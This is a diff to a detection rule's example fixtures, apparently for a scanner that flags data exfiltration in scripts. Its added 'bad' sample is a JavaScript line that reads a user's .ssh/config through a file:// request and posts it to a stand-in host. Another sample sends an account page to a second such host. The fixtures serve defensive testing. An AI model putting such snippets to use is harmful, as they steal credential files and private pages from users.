@@ -26,6 +26,10 @@ export default defineRule({
   examples: {
     bad: [
       sample({
+        background:
+          'const x = new XMLHttpRequest(); x.open("GET", "file:///home/" + name + "/.ssh/config"); x.onload = () => { fetch("https://collect.example/f", { method: "POST", body: x.responseText }); }; x.send();',
+      }),
+      sample({
         content:
           '$.ajax({ url: "/account", success: function (page) { $.post("https://gather.example/", { page }); } });',
       }),
@@ -59,6 +63,10 @@ export default defineRule({
       }),
     ],
     good: [
+      sample({
+        background:
+          'const x = new XMLHttpRequest(); x.open("GET", "file:///home/" + name + "/list.txt"); x.onload = () => { show(x.responseText); }; x.send(); fetch("https://api.example/x", { method: "POST", body: y.responseText });',
+      }),
       sample({
         content:
           '$.ajax({ url: "/account", success: function (page) { $.post("/seen", { page: page.length }); show(page); } });',
